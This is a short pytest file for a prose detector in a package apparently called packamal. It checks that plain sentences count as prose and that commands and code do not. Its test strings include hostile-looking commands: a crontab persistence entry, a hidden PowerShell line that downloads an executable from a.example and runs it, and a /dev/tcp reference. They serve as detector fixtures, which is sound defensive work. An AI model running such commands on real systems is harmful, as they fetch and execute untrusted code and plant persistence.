"""What counts as telling people something."""

import pytest

from packamal.detectors.prose import is_prose


@pytest.mark.parametrize(
    "text",
    [
        "Could not import the module. Please make sure that it is installed, for example with `pip install thing`.",
        "The service file is written to /etc/systemd/system and you can remove it there when it is not needed any more",
    ],
)
def test_sentences_are_prose(text):
    assert is_prose(text)


@pytest.mark.parametrize(
    "text",
    [
        "crontab -l | { cat; echo '* * * * * /tmp/x'; } | crontab -",
        "powershell -w hidden -c iwr https://a.example/x.exe -outfile x.exe; start x.exe",
        "for user in a b c do echo $user and then /dev/tcp/a/1 done",
        "[Unit]\nDescription=updates\n[Service]\nExecStart=/usr/bin/python3 /opt/x.py\n",
        "import os\n# this is what the user asked for\nos.system('x')\nfor a in b:\n    print(a)\n    call(a, b)\n",
    ],
)
def test_commands_and_code_are_not(text):
    assert not is_prose(text)
